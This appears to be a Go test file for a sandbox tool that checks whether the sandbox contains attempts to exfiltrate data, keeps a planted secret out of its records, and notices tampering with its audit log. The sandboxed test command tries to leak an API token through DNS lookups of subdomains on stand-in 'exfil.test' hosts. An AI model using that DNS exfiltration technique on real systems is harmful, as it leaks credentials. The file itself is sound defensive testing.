package corpus

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/corpus/attacker"
	"github.com/carboy/carboy/internal/receipt"
	"github.com/carboy/carboy/internal/safetext"
)

// withEvents writes the events that a user would be shown during a run.
func withEvents(to *buffer) func(*carboy.RunOptions) {
	return func(o *carboy.RunOptions) {
		o.OnEvent = func(e carboy.Event) {
			fmt.Fprintf(to, "%s %s\n", safetext.String(e.Name, 260), safetext.String(e.Text, 200))
		}
	}
}

// records makes one run with many refusals. It checks what the records say, and that
// tampering with them is found.
func records(l *lab, chosen []attacker.Attack) error {
	const others = 2000
	secret := "s3cr3t" + random(8)
	r := l.bottle(false, func(o *carboy.RunOptions) {
		o.Env = []string{"MY_API_TOKEN=" + secret}
		o.Command = shell(`echo control; `+me+`ask-names first-of-all.test `+fmt.Sprint(others)+` x; getent hosts "$MY_API_TOKEN.exfil.test"; getent hosts "`+secret+`.exfil2.test"; exit 0`, "--token", secret)
	}, "-")
	if r.rec == nil {
		return r.err
	}
	if !r.exited() || !strings.Contains(r.out, "asked") {
		return fmt.Errorf("the bottle ended with %s: %.300s", r.ended(), r.msg)
	}
	var files []string
	var found string
	filepath.WalkDir(l.state, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || strings.Contains(path, "/logs/") {
			return nil // the command's own output is the command's
		}
		b, rerr := os.ReadFile(path)
		if rerr == nil && strings.Contains(string(b), secret) {
			found = path
		}
		if rerr == nil && strings.HasPrefix(path, l.client.AuditDir()) && strings.Contains(string(b), "first-of-all.test") {
			files = append(files, path)
		}
		return nil
	})
	l.verdicts["records/secret-in-records"] = contained("no record holds it")
	if found != "" {
		l.verdicts["records/secret-in-records"] = escaped("%s holds the secret", strings.TrimPrefix(found, l.state))
	}
	if len(files) == 0 {
		l.verdicts["records/buried-refusal"] = escaped("no record of the audit log names the first refusal")
		return errors.New("the audit log has no record to tamper with")
	}
	switch t := r.rec.Network.Totals; {
	case t.NamesRefused < others:
		l.verdicts["records/buried-refusal"] = escaped("%d refusals are counted, of %d", t.NamesRefused, others)
	case len(r.rec.Network.Names) > receipt.MaxNames:
		l.verdicts["records/buried-refusal"] = escaped("the receipt lists %d names", len(r.rec.Network.Names))
	default:
		l.verdicts["records/buried-refusal"] = contained("the audit log names the first; the receipt counts %d and lists %d", t.NamesRefused, len(r.rec.Network.Names))
	}
	v, err := l.tamper(files)
	if err != nil {
		return err
	}
	l.verdicts["records/tampered-log"] = v
	return nil
}

func (l *lab) intact() (bool, error) {
	rep, err := l.client.AuditVerify(l.ctx, "")
	return err == nil && rep.OK(), err
}

// tamper changes the log in three ways, and checks that each is found.
func (l *lab) tamper(files []string) (verdict, error) {
	if ok, err := l.intact(); !ok {
		return untried("a log that nobody touched does not verify: %v", err), nil
	}
	ways := 0
	for _, f := range files {
		whole, err := os.ReadFile(f)
		if err != nil {
			return verdict{}, err
		}
		for name, bad := range map[string]string{
			"an edited word":   strings.Replace(string(whole), "first-of-all.test", "last-of-all.test", 1),
			"a deleted record": cutLine(string(whole), 1),
			"a cut end":        cutLine(string(whole), -1),
		} {
			ways++
			if err := os.WriteFile(f, []byte(bad), 0o600); err != nil {
				return verdict{}, err
			}
			if ok, _ := l.intact(); ok {
				return escaped("%s goes unnoticed", name), nil
			}
		}
		if err := os.WriteFile(f, whole, 0o600); err != nil {
			return verdict{}, err
		}
	}
	if ok, err := l.intact(); !ok {
		return untried("the log, put right again, does not verify: %v", err), nil
	}
	v := contained("each was noticed")
	v.ways = ways
	return v, nil
}

// cutLine removes line n, or the last one if n is -1.
func cutLine(s string, n int) string {
	lines := strings.SplitAfter(strings.TrimSuffix(s, "\n"), "\n")
	if n < 0 {
		n = len(lines) - 1
	}
	if n >= len(lines) {
		return ""
	}
	return strings.Join(append(append([]string{}, lines[:n]...), lines[n+1:]...), "")
}
